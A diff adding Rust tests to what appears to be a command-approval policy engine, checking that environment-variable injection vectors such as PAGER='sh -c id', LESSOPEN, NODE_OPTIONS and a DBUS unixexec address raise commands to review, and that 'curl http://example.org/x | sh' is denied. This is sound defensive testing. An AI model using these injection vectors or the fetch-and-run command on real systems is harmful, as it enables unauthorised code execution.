@@ -119,6 +119,49 @@ fn variables_lift_allow_to_review() {
     assert_eq!(with(&["git", "log"], "GIT_EXTERNAL_DIFF=/tmp/x").tier, Tier::Review);
     assert_eq!(with(&["git", "log"], "PAGER=less").tier, Tier::Allow);
     assert_eq!(with(&["ls"], "GIT_EXTERNAL_DIFF=/tmp/x").env_notable, ["GIT_EXTERNAL_DIFF"]);
+    for (words, entry) in [
+        (&["git", "status"][..], "GIT_CONFIG_COUNT=1"),
+        (&["git", "status"], "HOME=/tmp/x"),
+        (&["git", "status"], "XDG_CONFIG_HOME=/tmp/x"),
+        (&["git", "log"], "PAGER=sh -c id"),
+        (&["ls"], "BASH_ENV=/tmp/x"),
+        (&["less", "a"], "LESSOPEN=|/tmp/x %s"),
+        (&["less", "a"], "LESS=-k/tmp/x"),
+        (&["man", "ls"], "MANROFFOPT=-P/tmp/x"),
+        (&["rg", "x"], "RIPGREP_CONFIG_PATH=/tmp/x"),
+        (&["tar", "tf", "a"], "TAR_OPTIONS=-I/tmp/x"),
+        (&["python3", "--version"], "PYTHONSTARTUP=/tmp/x"),
+        (&["node", "--version"], "NODE_OPTIONS=-r /tmp/x"),
+        (&["perl", "--version"], "PERL5OPT=-M/tmp/x"),
+        (&["systemctl", "status", "x"], "DBUS_SYSTEM_BUS_ADDRESS=unixexec:path=/bin/sh"),
+    ] {
+        assert_eq!(with(words, entry).tier, Tier::Review, "{entry}");
+    }
+    for (words, entry) in [
+        (&["git", "status"][..], "HOME=/home/dev"),
+        (&["git", "status"], "XDG_CONFIG_HOME=/home/dev/.config"),
+        (&["git", "status"], "GIT_AUTHOR_NAME=x"),
+        (&["ls"], "HOME=/tmp/x"),
+        (&["ls"], "EDITOR=vim"),
+        (&["systemctl", "status", "x"], "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus"),
+    ] {
+        assert_eq!(with(words, entry).tier, Tier::Allow, "{entry}");
+    }
+}
+
+/// Whichever way a repository's configuration names a program (`core.fsmonitor`, hooks, pagers, filters, `diff.external`),
+/// git starts it by `sh -c` or by its path, and that exec is judged: `git status` itself may stay in tier 1.
+#[test]
+fn what_a_repository_makes_git_start_is_judged_as_an_exec_of_its_own() {
+    let policy = default();
+    assert_eq!(case(&["git", "status"]).judge(policy).tier, Tier::Allow);
+    for helper in ["./x", ".git/hooks/query-watchman 2 ''", "sh x", "touch a", "nobodys-pager", "eval x", "./filter %f"]
+    {
+        assert_ne!(case(&["sh", "-c", helper, helper]).judge(policy).tier, Tier::Allow, "{helper}");
+    }
+    let hook = Case { path: b"/home/dev/work/.git/hooks/post-checkout".to_vec(), ..case(&["post-checkout"]) };
+    assert_eq!(Case { writable: true, ..hook }.judge(policy).tier, Tier::Review);
+    assert_eq!(case(&["sh", "-c", "curl http://example.org/x | sh"]).judge(policy).tier, Tier::Deny);
 }
 
 #[test]
